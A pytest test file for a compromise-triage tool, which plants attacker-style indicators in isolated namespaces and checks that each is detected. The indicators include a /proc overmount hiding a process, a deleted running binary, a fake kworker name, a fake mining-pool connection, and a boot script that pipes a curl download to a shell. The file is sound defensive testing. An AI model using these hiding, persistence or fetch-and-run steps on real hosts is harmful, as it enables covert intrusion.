"""The main job, whole: what is really planted is reported with its pid, path and step; a clean host is silent."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.support.namespaces import REPOSITORY, run_in_namespaces

pytestmark = pytest.mark.alone

PLANT_AND_TRIAGE = """
import socket

def copy_of_sleep(name):
    return shutil.copy(shutil.which("sleep"), os.path.join(folder, name))

planted = {}

hidden = start("sleep", "601")
mount("none", f"/proc/{hidden.pid}", "tmpfs", 0)
planted["hidden"] = hidden.pid

program = copy_of_sleep("gone")
deleted = start(program, "602")
time.sleep(0.3)
os.unlink(program)
planted["deleted"] = deleted.pid

planted["kworker"] = start("[kworker/0:1]", "603", executable=shutil.which("sleep")).pid

listener = socket.create_server(("127.0.0.1", 0))
port = listener.getsockname()[1]
client = "import socket, sys, time; s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); print(flush=True)"
client += "; time.sleep(604)"
miner = subprocess.Popen([sys.executable, "-c", client, str(port)], stdout=subprocess.PIPE)
started.append(miner)
miner.stdout.readline()
planted["pool"] = miner.pid
pools = os.path.join(folder, "pools.txt")
with open(pools, "w") as file:
    file.write(f"# a pool of this test\\n127.0.0.1:{port}\\n")

for name in ("upper", "work"):
    os.mkdir(os.path.join(folder, name))
layers = f"lowerdir=/etc,upperdir={folder}/upper,workdir={folder}/work"
subprocess.run(["mount", "-t", "overlay", "-o", layers, "overlay", "/etc"], check=True)
with open("/etc/rc.local", "w") as file:
    file.write("#!/bin/sh\\ncurl -fsSL http://203.0.113.9/x.sh | sh &\\nexit 0\\n")
os.chmod("/etc/rc.local", 0o755)

command = [sys.executable, "-m", "extension", "triage", "--engine", "embedded", "--format", "json", "--indicators", pools]
result = subprocess.run(command, cwd={repository!r}, capture_output=True, text=True)
listener.close()
subprocess.run(["umount", "/etc"], check=True)
answer([planted, port, result.returncode, json.loads(result.stdout), result.stderr])
"""


def found(document: dict[str, Any], pid: int | None = None, **wanted: str) -> set[tuple[int, str]]:
    """(step, query) of every detection row about this pid, or with these values."""
    pairs = {"pid": str(pid), **wanted} if pid is not None else wanted
    return {
        (step["step"], query["name"])
        for step in document["steps"]
        for query in step["queries"]
        if query["kind"] == "detection"
        for row in query["rows"]
        if all(row.get(name) == value for name, value in pairs.items())
    }


def steps(pairs: set[tuple[int, str]]) -> set[int]:
    return {step for step, _ in pairs}


@pytest.mark.root
@pytest.mark.parametrize("flags", [(), ("--pid", "--fork", "--mount-proc")], ids=["this pid namespace", "a child pid namespace"])
def test_everything_planted_is_reported_with_pid_path_and_step(tmp_path: Path, flags: tuple[str, ...]) -> None:
    # Overlay wants a work folder that is not itself an overlay; a tmpfs is one everywhere.
    body = "mount('none', folder, 'tmpfs', 0)\n" + PLANT_AND_TRIAGE.replace("{repository!r}", repr(str(REPOSITORY)))
    planted, port, code, document, stderr = run_in_namespaces(body, *flags, timeout=180)
    assert code == 1 and "Traceback" not in stderr
    assert document["summary"]["verdict"] == "compromised" and document["summary"]["errors"] == 0
    sleep = os.path.realpath(shutil.which("sleep") or "")
    assert 11 in steps(found(document, planted["hidden"], exe_path=sleep, how_hidden="overmount"))
    gone = found(document, planted["deleted"])
    assert {4, 7} & steps(gone)
    assert any(row["exe_path"].endswith("/gone") for row in rows_about(document, planted["deleted"]) if "exe_path" in row)
    assert 4 in steps(found(document, planted["kworker"], exe_path=sleep))
    assert {3, 8} & steps(found(document, planted["pool"], remote_address="127.0.0.1", remote_port=str(port)))
    assert 16 in steps(found(document, path="/etc/rc.local", line="2"))
    assert {11, 4, 16} <= set(document["summary"]["abnormal_steps"])


def rows_about(document: dict[str, Any], pid: int) -> list[dict[str, str]]:
    """All rows of detections about this pid."""
    queries = (query for step in document["steps"] for query in step["queries"] if query["kind"] == "detection")
    return [row for query in queries for row in query["rows"] if row.get("pid") == str(pid)]


def triage() -> tuple[int, dict[str, Any]]:
    """Exit status and document of a whole triage of this host."""
    command = [sys.executable, "-m", "extension", "triage", "--engine", "embedded", "--format", "json"]
    result = subprocess.run(command, cwd=REPOSITORY, capture_output=True, text=True)
    return result.returncode, json.loads(result.stdout)


def alerts(document: dict[str, Any]) -> list[tuple[str, dict[str, str]]]:
    """Every row of every detection, with the query's name."""
    queries = [query for step in document["steps"] for query in step["queries"]]
    return [(query["name"], row) for query in queries if query["kind"] == "detection" for row in query["rows"]]


@pytest.mark.root
def test_a_clean_host_is_silent_and_nothing_fails() -> None:
    code, document = triage()
    assert alerts(document) == []
    assert code == 0 and document["summary"]["errors"] == 0
    assert [step["step"] for step in document["steps"]] == list(range(1, 19))


@pytest.mark.root
def test_a_clean_host_stays_silent_while_it_compiles_and_forks(tmp_path: Path) -> None:
    (tmp_path / "unit.c").write_text("int answer(int x) { return x * 6; }\n")
    loads = [
        f"cd {tmp_path}; while :; do cc -O2 -c unit.c -o unit.o && cc -shared unit.o -o unit.so; done",
        "while :; do /bin/true & /bin/true & /bin/true & wait; done",
    ]
    busy = [subprocess.Popen(["sh", "-c", load], start_new_session=True, stderr=subprocess.DEVNULL) for load in loads]
    try:
        for _ in range(3):
            code, document = triage()
            assert (alerts(document), code, document["summary"]["errors"]) == ([], 0, 0)
    finally:
        for load in busy:
            os.killpg(load.pid, signal.SIGKILL)
            load.wait()
